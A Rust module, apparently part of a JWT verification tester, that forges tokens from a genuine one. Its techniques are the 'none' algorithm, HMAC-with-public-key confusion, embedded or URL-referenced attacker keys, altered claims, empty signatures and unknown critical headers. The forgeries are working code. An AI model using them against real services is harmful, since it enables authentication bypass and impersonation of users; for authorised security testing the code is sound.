//! Tokens made from a tenant's own: what an attacker can make with a genuine token, a key of their own, and the
//! issuer's public keys.

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::rsa::{KeyPair, KeySize, PublicKeyComponents};
use aws_lc_rs::signature::{KeyPair as _, RSA_PKCS1_SHA256};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac};
use serde_json::{Map, Value, json};
use sha2::Sha256;

use crate::call::{Forged, Forgery};

/// Can't be made, and why.
pub(crate) type ForgeError = String;

/// The attacker's own key, and where it can be fetched.
pub(crate) struct Forge {
    pair: KeyPair,
    kid: String,
}

impl Forge {
    /// With a fresh RSA key.
    pub(crate) fn new(kid: String) -> Result<Self, ForgeError> {
        let pair = KeyPair::generate(KeySize::Rsa2048).map_err(|_| "no RSA key could be made".to_owned())?;
        Ok(Self { pair, kid })
    }

    /// The attacker's key set, as its listener serves it.
    pub(crate) fn key_set(&self) -> Value {
        json!({ "keys": [self.jwk()] })
    }

    /// A token made from `genuine`. `url` is where the attacker's own key set can be fetched.
    pub(crate) fn make(&self, genuine: &str, what: &Forged, url: &str) -> Result<String, ForgeError> {
        let mut parts = genuine.split('.');
        let (Some(head), Some(payload), Some(signature), None) =
            (parts.next(), parts.next(), parts.next(), parts.next())
        else {
            return Err("the token is no JWS in compact form".into());
        };
        let mut header = object(head)?;
        let mut claims = object(payload)?;
        for (name, value) in &what.claims {
            claims.insert(name.clone(), json!(value));
        }
        let kept = Signed::Kept(signature.to_owned());
        let signed = match &what.forgery {
            Forgery::NoneAlgorithm { spelling } => {
                header.insert("alg".into(), json!(spelling));
                Signed::Kept(String::new())
            }
            Forgery::HmacWithPublicKey { keys } => {
                let kid = header.get("kid").cloned();
                header.insert("alg".into(), json!("HS256"));
                Signed::Hmac(public_key_pem(keys, kid.as_ref())?)
            }
            Forgery::AlteredClaim => kept,
            Forgery::UnknownKid => {
                header.insert("kid".into(), json!(self.kid));
                header.insert("alg".into(), json!("RS256"));
                Signed::Own
            }
            Forgery::EmbeddedKey => {
                header.insert("kid".into(), json!(self.kid));
                header.insert("alg".into(), json!("RS256"));
                header.insert("jwk".into(), self.jwk());
                Signed::Own
            }
            Forgery::KeyUrl { parameter } => {
                header.insert("kid".into(), json!(self.kid));
                header.insert("alg".into(), json!("RS256"));
                header.insert(parameter.clone(), json!(url));
                Signed::Own
            }
            Forgery::EmptySignature => Signed::Kept(String::new()),
            Forgery::UnknownCritical => {
                header.insert("crit".into(), json!(["urn:example:unknown"]));
                header.insert("urn:example:unknown".into(), json!(true));
                kept
            }
        };
        self.assemble(&header, &claims, signed)
    }

    fn assemble(
        &self,
        header: &Map<String, Value>,
        claims: &Map<String, Value>,
        by: Signed,
    ) -> Result<String, ForgeError> {
        let encode = |map: &Map<String, Value>| URL_SAFE_NO_PAD.encode(Value::Object(map.clone()).to_string());
        let input = format!("{}.{}", encode(header), encode(claims));
        let signature = match by {
            Signed::Kept(text) => text,
            Signed::Hmac(key) => {
                let mut mac = Hmac::<Sha256>::new_from_slice(key.as_bytes()).map_err(|e| e.to_string())?;
                mac.update(input.as_bytes());
                URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
            }
            Signed::Own => {
                let mut bytes = vec![0; self.pair.public_modulus_len()];
                self.pair
                    .sign(&RSA_PKCS1_SHA256, &SystemRandom::new(), input.as_bytes(), &mut bytes)
                    .map_err(|_| "the attacker's key would not sign".to_owned())?;
                URL_SAFE_NO_PAD.encode(bytes)
            }
        };
        Ok(format!("{input}.{signature}"))
    }

    fn jwk(&self) -> Value {
        let public = self.pair.public_key();
        let components = PublicKeyComponents::<Vec<u8>>::from(public);
        json!({
            "kty": "RSA", "use": "sig", "alg": "RS256", "kid": self.kid,
            "n": URL_SAFE_NO_PAD.encode(components.n), "e": URL_SAFE_NO_PAD.encode(components.e),
        })
    }
}

enum Signed {
    Kept(String),
    Hmac(String),
    Own,
}

/// Header or claims of a JWS.
pub(crate) fn object(part: &str) -> Result<Map<String, Value>, ForgeError> {
    let bytes = URL_SAFE_NO_PAD.decode(part).map_err(|_| "a part of the token is not base64url")?;
    serde_json::from_slice(&bytes).map_err(|_| "a part of the token is not a JSON object".into())
}

/// The public key as its usual PEM text: what the classic confusion attack uses as an HMAC key.
fn public_key_pem(keys: &Value, kid: Option<&Value>) -> Result<String, ForgeError> {
    let listed = keys.get("keys").and_then(Value::as_array).ok_or("the key set has no keys")?;
    let key = listed
        .iter()
        .find(|key| kid.is_some() && key.get("kid") == kid)
        .or(listed.first())
        .ok_or("the key set is empty")?;
    let member = |name: &str| -> Result<Vec<u8>, ForgeError> {
        let text = key.get(name).and_then(Value::as_str).ok_or_else(|| format!("the key has no `{name}`"))?;
        URL_SAFE_NO_PAD.decode(text).map_err(|_| format!("the key's `{name}` is not base64url"))
    };
    let info = match key.get("kty").and_then(Value::as_str) {
        Some("RSA") => rsa_public_key_info(&member("n")?, &member("e")?),
        Some("EC") => ec_public_key_info(&member("x")?, &member("y")?),
        _ => return Err("the key is neither RSA nor EC".into()),
    };
    let base64 = base64::engine::general_purpose::STANDARD.encode(info);
    let lines: Vec<&str> =
        base64.as_bytes().chunks(64).map(|chunk| std::str::from_utf8(chunk).unwrap_or_default()).collect();
    Ok(format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n")))
}

/// SubjectPublicKeyInfo of an RSA key (RFC 8017 A.1.1, RFC 3279 2.3.1).
fn rsa_public_key_info(n: &[u8], e: &[u8]) -> Vec<u8> {
    const RSA_ENCRYPTION: &[u8] = &[0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 1, 5, 0];
    let key = der(0x30, &[der_integer(n), der_integer(e)].concat());
    der(0x30, &[RSA_ENCRYPTION.to_vec(), der(0x03, &[vec![0], key].concat())].concat())
}

/// SubjectPublicKeyInfo of a P-256 key (RFC 5480 2).
fn ec_public_key_info(x: &[u8], y: &[u8]) -> Vec<u8> {
    const EC_P256: &[u8] = &[
        0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1, 0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 3, 1, 7,
    ];
    let point = [&[0, 4], x, y].concat();
    der(0x30, &[EC_P256.to_vec(), der(0x03, &point)].concat())
}

fn der_integer(bytes: &[u8]) -> Vec<u8> {
    let start = bytes.iter().position(|b| *b != 0).unwrap_or(bytes.len());
    let mut value = bytes.get(start..).unwrap_or_default().to_vec();
    if value.first().is_none_or(|b| b & 0x80 != 0) {
        value.insert(0, 0);
    }
    der(0x02, &value)
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut out = vec![tag];
    match u8::try_from(length) {
        Ok(short) if short < 0x80 => out.push(short),
        _ => {
            let bytes: Vec<u8> = length.to_be_bytes().into_iter().skip_while(|b| *b == 0).collect();
            out.push(0x80 | u8::try_from(bytes.len()).unwrap_or(0));
            out.extend(bytes);
        }
    }
    out.extend_from_slice(content);
    out
}
